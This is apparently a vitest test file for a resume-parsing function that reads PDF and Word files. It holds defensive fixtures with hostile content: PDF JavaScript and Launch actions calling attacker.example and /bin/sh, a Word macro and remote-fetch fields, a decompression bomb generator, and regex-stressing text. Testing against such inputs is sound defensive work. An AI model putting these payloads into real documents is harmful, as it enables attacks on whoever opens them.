import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { docxLayouts, packDocx } from '#test/resumes/layouts/docx.ts';
import { loadPeople } from '#test/resumes/person.ts';
import { simplePdf } from '#test/resumes/simple-pdf.ts';
import { readResume } from './resumes.public.ts';

const lines: [number, number, string, number?][] = [
  [50, 790, 'Ines Okafor', 20],
  [50, 770, 'ines.okafor@post.example | +44 7700 900456 | Leeds, United Kingdom'],
  [50, 740, 'Experience', 14],
  [50, 720, 'Baker'],
  [450, 720, 'Mar 2019 - Present'],
  [50, 706, 'Corner Bakery Ltd, Leeds'],
  [50, 676, 'Education', 14],
  [50, 656, 'Diploma in Baking'],
  [450, 656, '2016 - 2018'],
  [50, 642, 'Leeds College'],
  [50, 612, 'Skills', 14],
  [50, 592, 'Sourdough, Pastry, Stock control'],
];
const ENCRYPTED = `/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${'5a'.repeat(32)}>/U<${'5b'.repeat(32)}>>>/ID[<01><01>]`;

describe('reading in a process of its own', () => {
  it('RES-02 reads a PDF and tells where each field stands', async () => {
    const read = await readResume(simplePdf([lines]));
    if (read.reason !== undefined) throw new Error(read.reason);
    expect(read.content).toMatchObject({
      first_name: 'Ines',
      last_name: 'Okafor',
      email: 'ines.okafor@post.example',
      phone: '+44 7700 900456',
    });
    expect(read.content.work_experiences).toMatchObject([
      { title: 'Baker', company: 'Corner Bakery Ltd', place: 'Leeds', start: '2019-03', is_current: true },
    ]);
    expect(read.content.educations).toMatchObject([
      { school: 'Leeds College', degree: 'Diploma', field: 'Baking', start: '2016', end: '2018' },
    ]);
    expect(read.content.skills.map(({ name }) => name)).toEqual(['Sourdough', 'Pastry', 'Stock control']);
    expect(read.fields['work_experiences.0.title']).toMatchObject({
      source: { page: 1, text: 'Baker', box: { x: 50 } },
    });
    expect(read.pages).toEqual([{ width: 595, height: 842 }]);
  });

  it('RES-02 goes by the content: a PDF with a zip behind it is a PDF', async () => {
    const [person] = loadPeople();
    if (!person) throw new Error('nobody');
    const zip = docxLayouts['docx-styles']?.write(person) ?? Buffer.alloc(0);
    expect(await readResume(Buffer.concat([simplePdf([lines]), zip]))).toMatchObject({
      content: { first_name: 'Ines' },
    });
  });

  it.each<[string, Buffer, string]>([
    ['with a password', simplePdf([lines], { trailer: ENCRYPTED }), 'protected'],
    ['of 500 pages', simplePdf(Array.from({ length: 500 }, () => lines)), 'tooLarge'],
    ['without text', simplePdf([[]]), 'scan'],
    ['that is cut off', Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n'), 'broken'],
    ['that is a program', Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(4096, 1)]), 'broken'],
    [
      'that is no resume',
      packDocx({ body: '<w:p><w:r><w:t>Dear neighbours, the lift is out of order.</w:t></w:r></w:p>' }),
      'notAResume',
    ],
    [
      'that unpacks to 100 MB',
      packDocx({ body: `<w:p><w:r><w:t>${'A'.repeat(100_000_000)}</w:t></w:r></w:p>` }),
      'tooLarge',
    ],
    ['with a bomb of text in a PDF', bomb(), 'tooLarge'],
  ])('RES-02 gives a file %s back with its reason', async (_, bytes, reason) => {
    expect(await readResume(bytes)).toMatchObject({ reason });
  });

  it('RES-02 runs nothing that a PDF or a macro asks for, and reads what they say', async () => {
    const action = '/OpenAction<</S/JavaScript/JS(app.launchURL("http://attacker.example"))>>';
    const launch = '/AA<</WC<</S/Launch/F(/bin/sh)>>>>';
    const pdf = simplePdf([lines], { catalog: action + launch });
    expect(await readResume(pdf)).toMatchObject({ content: { first_name: 'Ines' } });
    const body =
      '<w:p><w:r><w:t>Skills</w:t></w:r></w:p><w:p><w:r><w:t>Welding</w:t></w:r></w:p><w:p><w:r><w:instrText>MACROBUTTON AutoOpen run</w:instrText></w:r></w:p>';
    const macro = packDocx({ body, parts: { 'word/vbaProject.bin': 'Sub AutoOpen()' } });
    expect(await readResume(macro)).toMatchObject({ content: { skills: [{ name: 'Welding' }] } });
  });

  it('RES-02 is done soon with paragraphs that were written to keep rules busy', async () => {
    const hostile = ['2019 - ', 'a@', '1 ', '.a', 'Jan 2019 to '].map(
      (part) => `<w:p><w:r><w:t>${part.repeat(30_000 / part.length)}</w:t></w:r></w:p>`,
    );
    const body = `<w:p><w:r><w:t>Experience</w:t></w:r></w:p>${hostile.join('')}<w:p><w:r><w:t>Skills</w:t></w:r></w:p><w:p><w:r><w:t>Welding</w:t></w:r></w:p>`;
    expect(await readResume(packDocx({ body }))).toMatchObject({ content: { skills: [{ name: 'Welding' }] } });
  });

  it('RES-02 follows no entity and fetches nothing that a Word file asks for', async () => {
    const body =
      '<w:p><w:r><w:t>Skills</w:t></w:r></w:p><w:p><w:r><w:t>&a;Welding</w:t><w:instrText>INCLUDEPICTURE "http://attacker.example/x"</w:instrText></w:r></w:p>';
    const read = await readResume(packDocx({ body, links: ['http://attacker.example/template'] }));
    expect(read).toMatchObject({ content: { skills: [{ name: 'Welding' }] } });
  });
});

/** A page whose text is 100 MB when it is unpacked. */
function bomb(): Buffer {
  const packed = deflateRawSync(Buffer.alloc(100_000_000, 'BT /F 10 Tf 50 700 Td (aaaaaaaaaaaaaaaaaaaa) Tj ET\n'), {
    level: 9,
  });
  const zlib = Buffer.concat([Buffer.from([0x78, 0xda]), packed, Buffer.alloc(4)]).toString('latin1');
  const head = simplePdf([[]], { extra: [`<</Length ${zlib.length}/Filter/FlateDecode>>stream\n${zlib}\nendstream`] });
  return Buffer.from(head.toString('latin1').replace('/Contents 4 0 R', '/Contents 6 0 R'), 'latin1');
}
